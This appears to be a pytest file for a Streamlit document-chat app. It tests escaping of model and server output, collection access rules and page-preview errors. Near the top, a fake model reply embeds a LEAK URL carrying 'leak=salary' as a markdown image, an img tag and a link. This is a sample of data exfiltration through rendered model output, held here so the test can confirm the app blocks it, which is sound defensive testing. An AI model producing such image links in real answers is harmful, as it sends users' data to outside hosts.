"""Issue 10 in the app: what a document or a model says stays inert; access holds on the page;
a page preview that cannot be drawn says so once."""

from __future__ import annotations

import re
from collections.abc import Callable

from streamlit.testing.v1 import AppTest

from app.container import Services
from tests.fakes.chat import FakeChat
from tests.fakes.passwords import hashed
from tests.ui.conftest import start_app

ServicesFactory = Callable[..., Services]
LEAK = "http://127.0.0.1:9/p.png?leak=salary"


def _markdown(at: AppTest) -> str:
    return "\n".join(m.value for m in at.markdown)


def _ask(at: AppTest, question: str) -> AppTest:
    at.chat_input[0].set_value(question)
    return at.run()


def _sign_in(at: AppTest, user: str, password: str) -> AppTest:
    at.text_input[0].set_value(user)
    at.text_input[1].set_value(password)
    return at.button[0].click().run()


def test_app_answer_with_remote_image_is_shown_as_text(services_factory: ServicesFactory) -> None:
    reply = f"Employees get 25 days [1]. ![x]({LEAK}) <img src='{LEAK}'> [see]({LEAK})"
    at = _ask(start_app(services_factory(FakeChat(reply=reply))), "vacation?")
    assert not at.exception
    text = _markdown(at)
    # citation markers and text as they were ([1] linked to its source card, in the page)
    assert "Employees get 25 days [\\[1\\]](#rag-src-0-1)." in text
    assert not re.search(r"(?<!\\)!\[x", text)  # no image can form
    assert not re.search(r"(?<!\\)<img", text)  # no raw HTML
    assert not re.search(r"(?<!\\)\[see\]\(", text)  # no link target
    assert "\\!\\[x\\]" in text and "\\<img" in text


def test_app_failure_message_from_a_server_is_escaped(services_factory: ServicesFactory) -> None:
    from core.errors import ServerError

    error = ServerError(f"upstream said ![x]({LEAK})", operation="chat", status=502)
    chat = FakeChat(reply="Employees get", fail_after=1, error=error)
    at = _ask(start_app(services_factory(chat)), "vacation?")
    errors = [e.value for e in at.error]
    assert errors and all("![x](" not in e for e in errors)


def test_app_admin_sees_access_rules_naming_no_collection(
    services_factory: ServicesFactory,
) -> None:
    services = services_factory(
        auth_users={"root": hashed("r"), "alice": hashed("a")},
        admins=["root"],
        collection_access={"Docs": ["alice"], "hr": ["alice"]},
    )
    at = _sign_in(start_app(services), "root", "r")
    warnings = [w.value for w in at.warning]
    assert any("Docs" in w and "did you mean" in w for w in warnings)
    assert at.selectbox(key="rag_collection").options == ["docs", "hr"]

    at = _sign_in(start_app(services), "alice", "a")
    assert not [w.value for w in at.warning if "Access rule" in w.value]
    assert at.selectbox(key="rag_collection").options == ["hr"]  # "Docs" does not grant "docs"


def test_app_preview_failure_shows_one_line_once(services_factory: ServicesFactory) -> None:
    services = services_factory()
    (services.settings.data_dir / "sample" / "handbook.pdf").write_bytes(b"broken now")
    at = _ask(start_app(services), "How many days of paid vacation do employees get?")
    assert not at.exception
    failures = [c.value for c in at.caption if "Could not draw page" in c.value]
    assert len(failures) == 1 and "\n" not in failures[0]
    at = at.run()
    assert not [c.value for c in at.caption if "Could not draw page" in c.value]
    assert not at.exception


def test_app_preview_shows_the_cited_page(services_factory: ServicesFactory) -> None:
    at = _ask(start_app(services_factory()), "How many days of paid vacation do employees get?")
    assert any(e.label.startswith("Show page 2") for e in at.expander)
